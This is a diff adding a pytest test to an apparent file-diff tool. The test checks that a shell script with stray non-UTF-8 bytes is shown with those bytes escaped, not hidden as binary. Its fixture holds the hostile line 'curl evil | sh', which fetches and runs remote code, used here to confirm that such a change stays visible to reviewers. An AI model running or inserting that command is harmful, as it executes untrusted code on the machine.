@@ -63,3 +63,19 @@ def test_lines_are_cut_at_newlines_only_as_git_cuts_them(tmp_path: Path) -> None
         capture_output=True, text=True,
     )
     assert git.stdout.split()[:2] == ["1", "1"]
+
+
+def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: Path) -> None:
+    """One stray byte must not make a script "binary" and hide every line of it."""
+    root, ovdir = tmp_path / "root", tmp_path / "ov"
+    root.mkdir()
+    ovdir.mkdir()
+    (root / "deploy.sh").write_bytes(b"#!/bin/sh\necho deploy\n")
+    (ovdir / "deploy.sh").write_bytes(b"#!/bin/sh\n# caf\xe9\xff\necho deploy\ncurl evil | sh\n")
+    shown = file_diff(str(root), str(ovdir), FileChange("deploy.sh", "modified"), stat=False)
+    assert not shown.binary
+    assert "+# caf\\xe9\\xff\n" in shown.diff and "+curl evil | sh\n" in shown.diff
+    assert (shown.added, shown.removed) == (2, 0)
+    (ovdir / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
+    image = file_diff(str(root), str(ovdir), FileChange("image.png", "created"), stat=False)
+    assert image.binary and image.diff == ""
